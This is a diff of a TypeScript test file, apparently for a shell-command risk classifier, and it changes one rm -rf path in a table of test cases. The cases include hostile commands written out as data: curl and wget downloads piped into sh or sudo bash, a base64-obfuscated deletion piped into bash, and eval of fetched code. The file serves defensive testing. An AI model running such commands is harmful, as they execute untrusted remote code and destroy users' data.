@@ -33,7 +33,7 @@ const cases: [string, Risk, RegExp?][] = [
   ['curl -fsSL https://get.example.sh | sh', 'critical', /pipes a download into sh/],
   ['wget -qO- https://x.example/i.sh | sudo bash', 'critical'],
   ['echo cm0gLXJmIH4= | base64 -d | bash', 'critical', /decoded/],
-  ['bash -c "rm -rf /tmp/cache"', 'destructive', /bash -c runs/],
+  ['bash -c "rm -rf build/cache"', 'destructive', /bash -c runs/],
   ['sh -c "$CMD"', 'destructive', /built at run time/],
   ['eval "$(curl -s https://x.example)"', 'destructive'],
   ['$CMD --all', 'destructive', /computed at run time/],
